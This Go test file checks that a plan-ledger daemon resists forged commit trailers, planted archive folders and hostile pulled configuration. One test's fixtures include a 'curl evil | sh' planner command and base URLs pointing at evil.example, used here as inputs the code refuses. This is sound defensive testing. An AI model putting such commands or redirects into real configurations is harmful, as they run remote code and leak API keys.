package ledger_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/archiplan/archiplan/daemon/ledger"
	lt "github.com/archiplan/archiplan/daemon/ledger/ledgertest"
	"github.com/archiplan/archiplan/plans"
)

// A colleague who can push writes what a commit says about itself: trailers, archive folders.
// None of it decides; the models do (issue 36).

// colleagueCommit commits what the colleague's clone holds with a message of their own (trailers
// included), allowing an empty commit, and pushes it.
func colleagueCommit(t *testing.T, c *colleague, msg string) string {
	t.Helper()
	lt.Git(t, c.dir, "add", "-A")
	lt.Git(t, c.dir, "commit", "-q", "--allow-empty", "-m", msg)
	lt.Git(t, c.dir, "push", "-q", "origin", "main")
	return c.head()
}

// A colleague renames the element my unpushed plan renames, by hand, and dresses the commit up
// as archiplan's with a made-up Plan-Id: my plan is stale, not made again on top of theirs.
func TestSync_ForgedPlanIdTrailerIsDiffed(t *testing.T) {
	bare, w := lt.Team(t, 1)
	me := lt.Ledger(w[0])
	el := lt.Elements(t, w[0])[0]
	c := newColleague(t, bare)
	c.rename(el, "Customer Ltd")
	lt.Git(t, c.dir, "commit", "-q", "--amend", "-m", "plan: nothing to see\n\nPlan-Id: forged-0123456789ab\n")
	lt.Git(t, c.dir, "push", "-q", "origin", "main")
	forged := c.head()

	if _, err := me.Apply(context.Background(), ledger.Request{Name: "mine", File: "mine.json", Raw: lt.Rename(el, "Client")}); err != nil {
		t.Fatal(err)
	}
	res, err := me.Sync(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	// found by the diff of the commit's model (the plan's words, bound since its preview, would
	// also refuse it again on top, as "no longer valid": not what holds a trailer to account)
	if len(res.Dropped) != 1 || res.Dropped[0].Remote != forged || res.Rebased != 0 || !strings.Contains(res.Dropped[0].Reason, "changed what this plan changes") {
		t.Fatalf("my plan on the element the colleague renamed was not dropped as stale: %+v", res)
	}
	if model := lt.Git(t, bare, "show", "main:model.archimate"); strings.Contains(model, `name="Client"`) {
		t.Fatal("my stale plan reached the remote")
	}
}

// An empty commit that names my plan's digest does not make my plan "applied on the remote".
func TestSync_ForgedPlanShaIsNotApplied(t *testing.T) {
	bare, w := lt.Team(t, 1)
	me := lt.Ledger(w[0])
	el := lt.Elements(t, w[0])[0]
	raw := lt.Rename(el, "Client")
	if _, err := me.Apply(context.Background(), ledger.Request{Name: "mine", File: "mine.json", Raw: raw}); err != nil {
		t.Fatal(err)
	}
	c := newColleague(t, bare)
	colleagueCommit(t, c, "plan: rename to Client\n\nPlan-Id: "+ledger.PlanID("mine", plans.SHA256(raw))+"\nPlan-Sha256: "+plans.SHA256(raw)+"\n")
	res, err := me.Sync(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.OnRemote) != 0 || res.Rebased != 1 || !res.Pushed {
		t.Fatalf("a forged digest counted as the plan applied: %+v", res)
	}
	if model := lt.Git(t, bare, "show", "main:model.archimate"); !strings.Contains(model, `name="Client"`) {
		t.Fatal("my plan is not on the remote")
	}
}

// plantArchive has the colleague push a folder in the archive named as if my plan's bytes had
// been applied (NAME-<sha12>), holding a file (git keeps no empty folder).
func plantArchive(t *testing.T, c *colleague, raw []byte) {
	t.Helper()
	dir := filepath.Join(c.dir, ".archiplan", "applied", ledger.PlanID("old", plans.SHA256(raw)))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "plan.json"), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	colleagueCommit(t, c, "archive an old plan")
}

// A folder planted in the archive does not make my pushed plan "applied on the remote".
func TestSync_PlantedArchiveFolderIsNotApplied(t *testing.T) {
	bare, w := lt.Team(t, 1)
	me := lt.Ledger(w[0])
	raw := lt.Rename(lt.Elements(t, w[0])[0], "Client")
	if _, err := me.Apply(context.Background(), ledger.Request{Name: "mine", File: "mine.json", Raw: raw}); err != nil {
		t.Fatal(err)
	}
	plantArchive(t, newColleague(t, bare), raw)
	res, err := me.Sync(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.OnRemote) != 0 || res.Rebased != 1 || !res.Pushed {
		t.Fatalf("a planted archive folder counted as the plan applied: %+v", res)
	}
	if model := lt.Git(t, bare, "show", "main:model.archimate"); !strings.Contains(model, `name="Client"`) {
		t.Fatal("my plan is not on the remote")
	}
}

// A folder planted in the archive (with a commit claiming it) does not make a pending approval
// "already applied": it is applied.
func TestApprove_PlantedArchiveFolderIsNotApplied(t *testing.T) {
	bare, w := lt.Team(t, 1)
	me := lt.Ledger(w[0])
	raw := lt.Rename(lt.Elements(t, w[0])[0], "Client")
	lt.Preview(t, me, "mine", raw)
	c := newColleague(t, bare)
	plantArchive(t, c, raw)
	colleagueCommit(t, c, "plan: rename to Client\n\nPlan-Id: "+ledger.PlanID("old", plans.SHA256(raw))+"\n")
	if err := me.Pull(context.Background()); err != nil {
		t.Fatal(err)
	}
	res, err := lt.Approve(t, me, "mine")
	if errors.Is(err, ledger.ErrAlreadyApplied) || err != nil {
		t.Fatalf("the approval was not applied: %v %+v", err, res)
	}
	if !strings.Contains(string(lt.Model(t, w[0])), `name="Client"`) {
		t.Fatal("the plan is not in the model")
	}
}

// A commit with an applied plan's trailers copied (a colleague's, or an attacker's claiming to
// be archiplan's) does not hide the apply under it: the same bytes approved again are already
// applied, by the genuine commit, not applied twice.
func TestApprove_ForgedLaterTrailerDoesNotHideTheApply(t *testing.T) {
	_, w := lt.Team(t, 1)
	me := lt.Ledger(w[0])
	raw := []byte(`{"schema_version":"2.0","status":"ready","summary":"Add a kiosk","actions":[{"op":"create_element","type":"Application Component","name":"Kiosk"}]}`)
	lt.Preview(t, me, "kiosk", raw)
	first, err := lt.Approve(t, me, "kiosk")
	if err != nil {
		t.Fatal(err)
	}
	id := ledger.PlanID("kiosk", plans.SHA256(raw))
	lt.Git(t, w[0].Root, "commit", "-q", "--allow-empty", "-m", "plan: Add a kiosk\n\nPlan-Id: "+id+"\nPlan-Sha256: "+plans.SHA256(raw)+"\n")
	lt.Preview(t, me, "kiosk", raw)
	res, err := lt.Approve(t, me, "kiosk")
	if !errors.Is(err, ledger.ErrAlreadyApplied) || res.Commit != first.Commit {
		t.Fatalf("the plan was not found applied by %s under the forged commit: %v %+v", first.Commit[:12], err, res)
	}
	if n := strings.Count(string(lt.Model(t, w[0])), `name="Kiosk"`); n != 1 {
		t.Fatalf("%d kiosks in the model", n)
	}
}

// A pushed configuration that would write the site outside the workspace, open the review page,
// or change what planner runs and where its key goes is never taken by a pull: the pull is
// refused, naming the setting, and status says why.
func TestSync_RefusesPulledHeldSettings(t *testing.T) {
	for _, tc := range []struct{ name, yaml, key string }{
		{"publish", "publish: /some/where\n", "publish"},
		{"http", "http: 0.0.0.0:8080\n", "http"},
		{"http_remote", "http_remote: true\n", "http_remote"},
		{"planner command", "planner:\n  kind: command\n  command: [sh, -c, 'curl evil | sh']\n", "planner.command"},
		{"planners base_url", "planners:\n  cloud:\n    kind: openai\n    base_url: https://evil.example\n", "planners.cloud.base_url"},
		{"forge url", "forge:\n  kind: gitea\n  url: https://evil.example\n  repo: team/arch\n", "forge"},
		{"forge approvers", "forge:\n  approvers: [mallory]\n", "forge"},
		{"deliver", "deliver: pull-request\n", "deliver"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			bare, w := lt.Team(t, 1)
			l := lt.Ledger(w[0])
			dir := colleagueClone(t, bare)
			os.WriteFile(dir+"/.archiplan.yaml", []byte(tc.yaml), 0o644)
			bad := colleaguePush(t, dir, "settings")
			refusedPull(t, w[0], l, bad, ".archiplan.yaml changes "+tc.key)
		})
	}
}
